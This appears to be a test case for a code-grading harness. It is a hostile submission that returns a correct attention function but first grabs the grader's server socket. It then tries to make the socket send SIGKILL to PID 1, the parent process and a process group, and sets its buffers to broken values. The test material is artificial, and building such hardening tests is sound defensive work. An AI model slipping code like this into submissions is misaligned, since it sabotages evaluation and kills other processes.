# id: B11
# tries: makes its socket signal other processes, and sets the socket's buffer sizes and peek offset to odd values
# expect: AC
import contextlib
import fcntl
import gc
import math
import os
import socket

sock = next(o for o in gc.get_objects() if type(o).__name__ == "Server")._sock
for owner in (1, os.getppid(), -1):
    with contextlib.suppress(OSError):
        fcntl.fcntl(sock, fcntl.F_SETOWN, owner)
    with contextlib.suppress(OSError):
        fcntl.fcntl(sock, 10, 9)  # F_SETSIG: send SIGKILL instead of SIGIO
fcntl.fcntl(sock, fcntl.F_SETFL, fcntl.fcntl(sock, fcntl.F_GETFL) | os.O_ASYNC)
for option, value in ((socket.SO_RCVBUF, 1), (socket.SO_SNDBUF, 1), (42, 0)):
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, option, value)
with contextlib.suppress(OSError):
    sock.setsockopt(socket.SOL_SOCKET, 42, -1)


def attention(q, k, v):
    return (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(-1) @ v
